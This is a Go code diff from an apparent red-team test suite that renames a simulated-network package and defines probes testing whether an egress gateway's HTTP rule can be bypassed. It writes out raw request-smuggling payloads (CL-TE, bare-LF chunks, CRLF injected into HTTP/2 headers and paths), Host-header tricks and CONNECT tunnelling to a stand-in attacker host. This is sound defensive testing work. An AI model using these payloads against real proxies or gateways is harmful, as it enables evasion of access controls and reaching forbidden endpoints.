@@ -7,13 +7,13 @@ import (
 	"golang.org/x/net/http2"
 	"golang.org/x/net/http2/hpack"
 
-	"github.com/custody-project/custody/redteam/world"
+	"github.com/custody-project/custody/redteam/simnet"
 )
 
 // requests are the probes of a rule with http: TLS is opened for it, and only
 // GET and POST below /v1/ may pass.
 func (c *catalogue) requests() {
-	other := world.Fronted
+	other := simnet.Fronted
 	for _, h := range []struct {
 		id, title string
 		bypass    Bypass
@@ -39,7 +39,7 @@ func (c *catalogue) requests() {
 		{"crlf-before", "an empty line before a request to another Host", LeadingCRLF, "\r\nGET /v1/{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
 		{"second-request", "an allowed request, then on the same connection one that is not", HostHeader,
 			"GET /v1/first HTTP/1.1\r\nHost: {H}\r\n\r\nGET /admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
-		{"connect", "CONNECT inside of TLS", Fronting, "CONNECT {T}." + world.Attacker + ":443 HTTP/1.1\r\nHost: {T}." + world.Attacker + ":443\r\n\r\n"},
+		{"connect", "CONNECT inside of TLS", Fronting, "CONNECT {T}." + simnet.Attacker + ":443 HTTP/1.1\r\nHost: {T}." + simnet.Attacker + ":443\r\n\r\n"},
 		{"websocket", "an upgrade on a path that the rule does not name", Smuggling,
 			"GET /admin/{T} HTTP/1.1\r\nHost: {H}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"},
 		{"cl-te", "Content-Length and Transfer-Encoding, another request inside", Smuggling,
@@ -53,38 +53,38 @@ func (c *catalogue) requests() {
 		{"chunk-lf", "a chunk that ends in LF alone", Smuggling,
 			"POST /v1/first HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\n0\n\nDELETE /admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
 	} {
-		text := c.fill(h.text, world.API, other)
+		text := c.fill(h.text, simnet.API, other)
 		c.opened("http/"+h.id, h.title, h.bypass, "http/1.1", []byte(text))
 	}
 	token := c.token()
 	c.opened("http/h2-authority", "another :authority in HTTP/2", Fronting, "h2", h2(":method", "GET", ":scheme", "https", ":authority", other, ":path", "/v1/"+token))
 	token = c.token()
 	c.opened("http/h2-host", "another host beside :authority", HostHeader, "h2",
-		h2(":method", "GET", ":scheme", "https", ":authority", world.API, ":path", "/v1/"+token, "host", other))
+		h2(":method", "GET", ":scheme", "https", ":authority", simnet.API, ":path", "/v1/"+token, "host", other))
 	c.last().proof = deniedOrEnded
 	token = c.token()
 	c.opened("http/h2-path", "a path that the rule does not name, in HTTP/2", OtherWay, "h2",
-		h2(":method", "GET", ":scheme", "https", ":authority", world.API, ":path", "/admin/"+token))
+		h2(":method", "GET", ":scheme", "https", ":authority", simnet.API, ":path", "/admin/"+token))
 	token = c.token()
 	c.opened("http/h2-crlf", "a header in HTTP/2 with a request inside", Smuggling, "h2",
-		h2(":method", "GET", ":scheme", "https", ":authority", world.API, ":path", "/v1/x", "x", "y\r\n\r\nGET /admin/"+token+" HTTP/1.1\r\nhost: "+world.API))
+		h2(":method", "GET", ":scheme", "https", ":authority", simnet.API, ":path", "/v1/x", "x", "y\r\n\r\nGET /admin/"+token+" HTTP/1.1\r\nhost: "+simnet.API))
 	c.last().proof = deniedOrEnded
 	token = c.token()
 	c.opened("http/h2-path-crlf", "a path in HTTP/2 with a request inside", Smuggling, "h2",
-		h2(":method", "GET", ":scheme", "https", ":authority", world.API, ":path", "/v1/x HTTP/1.1\r\nhost: h\r\n\r\nGET /admin/"+token))
+		h2(":method", "GET", ":scheme", "https", ":authority", simnet.API, ":path", "/v1/x HTTP/1.1\r\nhost: h\r\n\r\nGET /admin/"+token))
 	c.last().proof = deniedOrEnded
 	token = c.token()
 	c.opened("http/h2-transfer-encoding", "Transfer-Encoding in HTTP/2", Smuggling, "h2",
-		h2(":method", "POST", ":scheme", "https", ":authority", world.API, ":path", "/v1/x-"+token, "transfer-encoding", "chunked"))
+		h2(":method", "POST", ":scheme", "https", ":authority", simnet.API, ":path", "/v1/x-"+token, "transfer-encoding", "chunked"))
 	c.last().proof = deniedOrEnded
 	token = c.token()
-	c.opened("http/h2-connect", "CONNECT in HTTP/2", Fronting, "h2", h2(":method", "CONNECT", ":authority", token+"."+world.Attacker+":443"))
+	c.opened("http/h2-connect", "CONNECT in HTTP/2", Fronting, "h2", h2(":method", "CONNECT", ":authority", token+"."+simnet.Attacker+":443"))
 }
 
 // opened adds a probe that says something inside of the TLS that the gateway opens.
 func (c *catalogue) opened(id, title string, bypass Bypass, alpn string, say []byte) {
 	c.add(Probe{ID: id, Title: title, Bypass: bypass, task: &task{
-		Do: "talk", Name: world.API, Port: 443, TLS: &tlsTask{SNI: world.API, ALPN: []string{alpn}}, Send: []piece{{Data: say}}, Timeout: 8,
+		Do: "talk", Name: simnet.API, Port: 443, TLS: &tlsTask{SNI: simnet.API, ALPN: []string{alpn}}, Send: []piece{{Data: say}}, Timeout: 8,
 	}})
 }
 
